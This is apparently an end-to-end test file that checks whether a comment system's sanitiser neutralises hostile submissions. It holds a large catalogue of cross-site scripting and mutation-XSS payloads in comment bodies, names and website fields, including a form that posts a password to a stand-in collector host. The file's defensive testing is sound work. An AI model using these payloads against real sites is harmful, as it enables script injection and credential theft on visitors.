"""What strangers send to do harm, on the page where everybody would meet it."""

import json
import uuid
from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import PHONE, Moderator, OpenPage, OpenWidget, Watch
from tests.e2e.desk import clear_queue, enter, held
from tests.e2e.widget import Host, published
from tests.stack import Stack

pytestmark = pytest.mark.xdist_group("pages")

ELSEWHERE = "https://collector.example"
RUN = "window.wasRun=1,alert(1)"

BODIES = {
    # Raw HTML, plain and misspelt
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src={ELSEWHERE}/a.js></script>",
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "capital letters, slash": f"<ScRiPt/x>{RUN}</sCrIpT >",
    "unclosed script": f"<script>{RUN}//",
    "image error": f"<img src=x onerror={RUN}>",
    "image from elsewhere": f'<img src="{ELSEWHERE}/pixel.png" alt="">',
    "image, no spaces": f'<img/src="x"/onerror="{RUN}">',
    "image, unclosed": f"<img src=x onerror={RUN} //",
    "drawing on load": f"<svg onload={RUN}></svg>",
    "drawing, animated link": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=20>go</text></a></svg>',
    "frame with a document": '<iframe srcdoc="<script>parent.wasRun=1</script>"></iframe>',
    "frame from elsewhere": f"<iframe src={ELSEWHERE}/frame></iframe>",
    "object": f"<object data=\"javascript:{RUN}\"></object><embed src={ELSEWHERE}/x.swf>",
    "details": f"<details open ontoggle={RUN}>x</details>",
    "focus": f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}>",
    "media": f"<video><source onerror={RUN}></video><audio src={ELSEWHERE}/a.mp3 autoplay>",
    "style": f"<style>@import '{ELSEWHERE}/a.css'; body {{ display: none }}</style>",
    "style attribute": f'<p style="background:url({ELSEWHERE}/b.png);position:fixed;inset:0">over all</p>',
    "link element": f'<link rel=stylesheet href={ELSEWHERE}/c.css><base href="{ELSEWHERE}/">',
    "refresh": f'<meta http-equiv=refresh content="0;url={ELSEWHERE}/">',
    "form": f'<form action={ELSEWHERE}/steal><input name=password><button formaction="javascript:{RUN}">go</button></form>',
    "closing our elements": f"</div></article></li></ol></main></body></html><script>{RUN}</script>",
    "closing our field": f"</textarea><script>{RUN}</script>",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]--><!--><img src=x onerror={RUN}>-->",
    "byte tricks": f"<\u200bscript>{RUN}</script>\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62; &#x3c;svg/onload={RUN}&#x3e;",
    # Markdown that could become a script or a request
    "link to a script": f"[a](javascript:{RUN})",
    "link, mixed case": f"[a](JaVaScRiPt:{RUN})",
    "link with entities": f"[a](javascript&colon;{RUN}) [b](&#106;avascript:{RUN}) [c](java&#10;script:{RUN})",
    "link with controls": f"[a](\tjava\tscript:{RUN}) [b](%6Aavascript:{RUN})",
    "link to data": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [b](vbscript:msgbox(1))",
    "angle link": f"<javascript:{RUN}> <data:text/html,x> <https://collector.example/\"onmouseover={RUN}>",
    "quote in an address": f'[a](https://collector.example/"onmouseover="{RUN}) [b](https://collector.example/\'%22><img src=x onerror={RUN}>)',
    "quote in a title": f'[a](https://collector.example "\" onmouseover=\"{RUN}") [b](https://collector.example \'"><script>{RUN}</script>\')',
    "reference": f"[a][b]\n\n[b]: javascript:{RUN}\n\n[c]\n\n[c]: https://collector.example \"' onclick={RUN} x='\"",
    "image in Markdown": f"![pixel]({ELSEWHERE}/p.png) ![]({ELSEWHERE}/q.png) ![x](javascript:{RUN}) [![]({ELSEWHERE}/r.png)](javascript:{RUN})",
    "image description": f'![x" onerror="{RUN}]({ELSEWHERE}/s.png "\" onload=\"{RUN}")',
    "code with a language": f'```html"><img src=x onerror={RUN}>\n</code></pre><script>{RUN}</script>\n```',
    "code span": f"`</code><script>{RUN}</script>` ``<img src=x onerror={RUN}>``",
    "host that is a name": "//collector.example/x \\\\collector.example\\x [a](//collector.example) [b](/\\collector.example) [c](https:collector.example)",
    "address with a name in it": "https://bank.example@collector.example/ [bank.example](https://bank.example%40collector.example/)",
    # Mutation: what a second parser makes of what a first one wrote
    "mutation: mathematics": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "mutation: noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation: drawing and style": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mutation: form in a form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "mutation: template": f"<template><s><template><s><img src=x onerror={RUN}>@shadow</s></template></s></template>",
    "mutation: backtick": f"<img src=`x` onerror=`{RUN}`> `<img src=x` onerror={RUN}>",
    "mutation: list and quote": f"> * <div\n> * onclick={RUN}>\n\n1. <a\n2. href=\"javascript:{RUN}\">x</a>",
    "mutation: title text": f"<title><img title=\"</title><img src=x onerror={RUN}>\"></title><xmp><p title=\"</xmp><svg onload={RUN}>\">",
    "mutation: CDATA": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg><?xml x?><img src=x onerror={RUN}>",
    # Only ugly
    "one endless word": "W" * 9_000,
    "endless address": f"{ELSEWHERE}/" + "a" * 1_800,
    "endless code": "```\n" + "x" * 5_000 + "\n```",
    "deep quotes": ">" * 400 + " deep",
    "deep lists": "\n".join("  " * depth + "- deeper" for depth in range(60)),
    "stacked marks": "Z" + "\u0301\u0302\u0303\u0304\u0305" * 400,
    "turned around": "\u202e" * 50 + "gnihtyreve nrut" + "\u2067" * 50,
    "wide signs": "\ufdfd" * 120 + " \U0001242b" * 120,
}  # fmt: skip
NAMES = {
    "script as a name": f"<script>{RUN}</script>",
    "quote as a name": f'"><img src=x onerror={RUN}>',
    "entity as a name": f"&lt;img src=x onerror={RUN}&gt;",
    "template as a name": "{{ 7 * 7 }}{% raw %}${7*7}",
    "closing bdi as a name": f"</bdi></b></p><svg onload={RUN}>",
    "turned name": "\u202eadA\u2066",
    "endless name": "N" * 100,
}
WEBSITES = {
    "script as a website": f"javascript:{RUN}",
    "hidden script as a website": f"java\tscript:{RUN}",
    "data as a website": "data:text/html,<script>alert(1)</script>",
    "quote as a website": f'https://collector.example/" onmouseover="{RUN}',
    "closing website": f"https://collector.example/'><script>{RUN}</script>",
    "endless website": f"{ELSEWHERE}/" + "a" * 1_900,
}


@pytest.fixture(scope="module")
def hostile(greenroom: Stack, moderator: Moderator) -> Iterator[dict[str, str]]:
    """Everything hostile that was accepted, put on the page by a moderator: case by comment id."""
    moderator.clear_page()
    sent: dict[str, str] = {}
    with httpx.Client(base_url=greenroom.url, headers={"Origin": greenroom.url}, timeout=20) as client:
        for case, fields in everything():
            known = {"page_url": f"{greenroom.url}/demo/plain", "author_name": "Eve", "author_email": "eve@example.org"}
            answer = client.post("/api/v1/sites/demo/comments", json={**known, **fields})
            assert answer.status_code in {202, 422}, f"{case}: {answer.text}"
            if answer.status_code == 202:
                sent[answer.json()["id"]] = case
    moderator.publish_all(list(sent))
    yield sent
    moderator.clear_page()


def everything() -> list[tuple[str, dict[str, str]]]:
    unlike = [f"{case}, {uuid.uuid4().hex}" for case in (*NAMES, *WEBSITES)]
    names = [
        (case, {"author_name": name, "body": text}) for (case, name), text in zip(NAMES.items(), unlike, strict=False)
    ]
    websites = [
        (case, {"author_website": website, "body": text})
        for (case, website), text in zip(WEBSITES.items(), unlike[len(NAMES) :], strict=True)
    ]
    return [*((case, {"body": body}) for case, body in BODIES.items()), *names, *websites]


def test_the_hostile_texts_reached_the_page(greenroom: Stack, open_page: OpenPage, hostile: dict[str, str]) -> None:
    """The other tests look at nearly all of them: only what is no website at all is refused at the door."""
    page = look_at(open_page(), greenroom)
    shown = set(page.locator("article.comment").evaluate_all("all => all.map(one => one.id.slice('comment-'.length))"))
    missing = [case for comment_id, case in hostile.items() if comment_id not in shown]
    assert missing == []
    refused = {case for case, _ in everything()} - set(hostile.values())
    assert refused <= {*WEBSITES}
    assert len(hostile) >= len(BODIES) + len(NAMES)


@pytest.mark.parametrize("is_policy_off", [False, True], ids=["as it is", "without its Content-Security-Policy"])
def test_nothing_hostile_runs_or_asks_anybody(
    greenroom: Stack, open_page: OpenPage, hostile: dict[str, str], watch: Watch, is_policy_off: bool
) -> None:
    """No script, no dialog, no request: the sanitiser holds alone, and the policy behind it never has to act."""
    page = look_at(open_page(bypass_csp=is_policy_off, width=PHONE), greenroom)
    page.mouse.move(180, 400)
    assert page.evaluate("window.wasRun") is None
    assert page.evaluate("document.title").startswith("Ketamine-assisted therapy")
    watch.assert_nothing_happened()


def test_nothing_hostile_is_left_in_the_document(
    greenroom: Stack, open_page: OpenPage, hostile: dict[str, str]
) -> None:
    """Within the comments there are only our elements, no handlers, and no links but to the web and to mail."""
    page = look_at(open_page(), greenroom)
    found = json.loads(
        page.evaluate(
            """() => {
                const inside = [...document.querySelectorAll("article.comment .body *")];
                const links = [...document.querySelectorAll("article.comment a")];
                return JSON.stringify({
                    elements: [...new Set(inside.map(one => one.localName))].sort(),
                    attributes: [...new Set(inside.flatMap(one => one.getAttributeNames()))].sort(),
                    protocols: [...new Set(links.map(one => one.protocol))].sort(),
                    handlers: [...document.querySelectorAll("*")].filter(
                        one => one.getAttributeNames().some(name => name.startsWith("on"))).map(one => one.outerHTML),
                    strangers: links.filter(one => one.host && one.host !== location.host
                        && !["nofollow", "ugc", "noopener", "noreferrer"].every(word => one.relList.contains(word))).length,
                });
            }"""
        )
    )
    allowed = {"p", "br", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li", "a"}
    assert set(found["elements"]) <= allowed
    assert set(found["attributes"]) <= {"href", "rel", "title"}
    assert set(found["protocols"]) <= {"http:", "https:", "mailto:"}
    assert found["handlers"] == []
    assert found["strangers"] == 0


def test_nothing_hostile_breaks_the_layout(greenroom: Stack, open_page: OpenPage, hostile: dict[str, str]) -> None:
    """On a phone nothing is wider than the screen, and no comment covers the next one or the form."""
    page = look_at(open_page(width=PHONE), greenroom)
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE
    escaped = page.evaluate(
        """() => {
            const parts = [...document.querySelectorAll("article.comment"), document.querySelector("#reply")];
            const boxes = parts.map(one => one.getBoundingClientRect());
            const wide = parts.filter((one, at) => boxes[at].right > innerWidth + 1 || boxes[at].left < 0);
            const covered = parts.filter((one, at) => at && boxes[at].top < boxes[at - 1].bottom - 1);
            return [...wide, ...covered].map(one => one.id);
        }"""
    )
    assert [hostile.get(one.removeprefix("comment-"), one) for one in escaped] == []


def test_what_is_typed_in_the_form_is_harmless_when_it_comes_back(
    open_page: OpenPage, greenroom: Stack, watch: Watch
) -> None:
    """The error page and the result page show hostile text to its author; it does nothing there either."""
    page = open_page()
    attack = f"</textarea></title><script>{RUN}</script><img src=x onerror={RUN}>\"'`"
    page.goto(f"{greenroom.url}/demo/plain")
    page.locator("form.comment-form").evaluate("form => { form.noValidate = true }")
    page.locator("#field-body").fill(attack)
    page.locator("#field-author_name").fill(f'"><svg onload={RUN}>')
    page.locator("#field-author_email").fill(f'"><script>{RUN}</script>@example.org')
    page.locator("[name=page_title]").evaluate("field => { field.value = '</title><script>window.wasRun=1</script>' }")
    with page.expect_navigation():
        page.get_by_role("button", name="Post Comment").click()

    assert page.locator("#field-body").input_value() == attack
    assert page.evaluate("window.wasRun") is None

    page.locator("#field-author_email").fill("eve@example.org")
    with page.expect_navigation():
        page.get_by_role("button", name="Post Comment").click()
    page.wait_for_url("**/comments/*")
    assert page.evaluate("window.wasRun") is None
    watch.assert_nothing_happened()


def look_at(page: Page, greenroom: Stack) -> Page:
    page.goto(f"{greenroom.url}/demo/plain", wait_until="networkidle")
    return page


ONE_LETTER = "\u1100"
"""Jamo without an end are one letter to a browser, which breaks no line in it."""


def test_a_word_that_is_one_letter_pushes_nobodys_page_sideways(
    greenroom: Stack, open_page: OpenPage, moderator: Moderator
) -> None:
    """A phone's page grew eighty times as wide as the phone."""
    moderator.clear_page()
    with httpx.Client(base_url=greenroom.url, headers={"Origin": greenroom.url}, timeout=20) as client:
        answer = client.post(
            "/api/v1/sites/demo/comments",
            json={
                "page_url": f"{greenroom.url}/demo/plain",
                "author_name": ONE_LETTER * 100,
                "author_email": "eve@example.org",
                "body": ONE_LETTER * 3_000,
            },
        )
    moderator.publish_all([answer.json()["id"]])
    page = look_at(open_page(width=PHONE), greenroom)
    assert page.locator("article.comment").count() == 1
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE
    moderator.clear_page()


def test_a_word_that_is_one_letter_pushes_no_host_page_sideways(
    greenroom: Stack, open_widget: OpenWidget, host: Host
) -> None:
    """The same in the widget, on a page of somebody else."""
    url = host.page("/one-letter")
    published(greenroom, url, [ONE_LETTER * 3_000], author_name=ONE_LETTER * 100)
    widget = open_widget(url, width=PHONE)
    expect(widget.comment(ONE_LETTER)).to_be_visible()
    assert widget.page.evaluate("document.documentElement.scrollWidth") <= PHONE


def test_a_website_that_is_one_letter_pushes_no_moderators_page_sideways(greenroom: Stack, open_page: OpenPage) -> None:
    """What the door refuses may stand in the database from before; the desk shows it in a box."""
    (comment_id,) = held(greenroom, ["A calm thought."], author=ONE_LETTER * 90)
    with greenroom.database() as connection:
        connection.execute("UPDATE comments SET author_website = %s WHERE id = %s", (ONE_LETTER * 500, comment_id))
    page = enter(open_page(width=PHONE), greenroom)
    page.goto(f"{greenroom.url}/desk/comments/{comment_id}")
    expect(page.locator(".item dd code").filter(has_text=ONE_LETTER)).to_have_count(1)
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE
    clear_queue(greenroom)
